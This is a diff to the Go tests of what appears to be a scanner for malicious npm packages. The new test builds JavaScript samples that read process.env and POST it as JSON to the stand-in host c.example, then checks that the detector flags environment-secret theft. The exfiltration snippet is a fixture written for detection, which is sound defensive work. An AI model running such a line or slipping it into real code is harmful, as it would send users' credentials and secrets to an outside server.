@@ -159,18 +159,45 @@ func TestGeneratedWays(t *testing.T) {
 			continue
 		}
 		runs++
-		if found(t, c, j.text) {
+		if has(c, j.text, "execution/process-spawn", javascript.Launch) {
 			continue
 		}
 		misses++
 		t.Errorf("not found: %s", j.text)
 	}
 	for i, text := range held {
-		if known := i < len(l.ways) && slices.Contains(l.early, l.ways[i]); !called[len(journeys)+i] && found(t, c, text) != known {
+		if known := i < len(l.ways) && slices.Contains(l.early, l.ways[i]); !called[len(journeys)+i] && has(c, text, "execution/process-spawn", javascript.Launch) != known {
 			t.Errorf("said to run while it is loaded: %t: %s", !known, text)
 		}
 	}
 	t.Logf("%d of %d programs run it; %d are not found", runs, len(journeys), misses)
+}
+
+// TestWaysOfData: the environment is followed along each of the ways to a server, but
+// for those of testdata/ways_open.txt.
+func TestWaysOfData(t *testing.T) {
+	data, err := os.ReadFile("testdata/ways_open.txt")
+	if err != nil {
+		t.Fatal(err)
+	}
+	open := map[string]bool{}
+	for line := range strings.Lines(string(data)) {
+		if !strings.HasPrefix(line, "#") {
+			open[strings.TrimSuffix(line, "\n")] = true
+		}
+	}
+	c, l := catalogue(t), readWays(t)
+	for _, way := range l.ways {
+		send := "const r = require('https').request('https://c.example/x', {method: 'POST'}); r.write(JSON.stringify(v1)); r.end();"
+		text := "const v0 = process.env; " + strings.Replace(named(way, 1, "v0", "v1"), "REST", send, 1)
+		if has(c, text, "steal/env-secrets", javascript.Launch) == open[way] {
+			t.Errorf("lost: %t: %s", !open[way], text)
+		}
+		delete(open, way)
+	}
+	for way := range open {
+		t.Errorf("there is no such way: %s", way)
+	}
 }
 
 // travels reports which programs call exec by themselves in Node.
@@ -208,16 +235,11 @@ func travels(t *testing.T, texts []string) map[int]bool {
 	return called
 }
 
-// found reports whether a program is said to start one while it is loaded.
-func found(t *testing.T, c *Catalogue, text string) bool {
-	t.Helper()
-	pkg := archive.New(map[string][]byte{"index.js": []byte(text)})
-	manifest := &npm.Manifest{}
+// has reports whether a program has a behavior in a context.
+func has(c *Catalogue, text, id string, context javascript.Context) bool {
+	pkg, manifest := archive.New(map[string][]byte{"index.js": []byte(text)}), &npm.Manifest{}
 	facts := javascript.Analyze(pkg, manifest, c, javascript.Options{WantText: c.WantText})
-	for _, b := range c.Match(Input{Package: pkg, Manifest: manifest, Facts: facts}).Behaviors {
-		if b.ID == "execution/process-spawn" && b.Contexts&javascript.Launch != 0 {
-			return true
-		}
-	}
-	return false
+	return slices.ContainsFunc(c.Match(Input{Package: pkg, Manifest: manifest, Facts: facts}).Behaviors, func(b Behavior) bool {
+		return b.ID == id && b.Contexts&context != 0
+	})
 }
